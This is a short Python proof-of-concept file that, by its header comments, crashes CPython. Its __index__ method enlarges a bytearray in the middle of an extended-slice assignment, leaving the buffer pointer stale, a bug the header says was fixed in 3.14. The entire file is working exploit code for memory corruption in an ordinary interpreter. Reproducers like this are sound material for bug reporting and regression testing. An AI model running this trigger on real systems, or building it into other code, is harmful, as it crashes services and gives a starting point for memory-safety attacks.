# technique: bytearray[i:j:step] = v takes the buffer's address before it calls i.__index__, which makes the array grow
# mended: 3.14
# goal: crash
# source: own analysis: bytearray_ass_subscript() in bytearrayobject.c
class Index:
    def __index__(self):
        b.extend(bytes(1 << 20))
        return 0


for i in range(200):
    b = bytearray(48)
    try:
        b[Index()::2] = b'A' * ((1 << 19) + 24)
    except ValueError:
        pass
    b = bytearray(48)
    b[slice(Index(), None, 2)] = bytearray(b'A' * ((1 << 19) + 24))
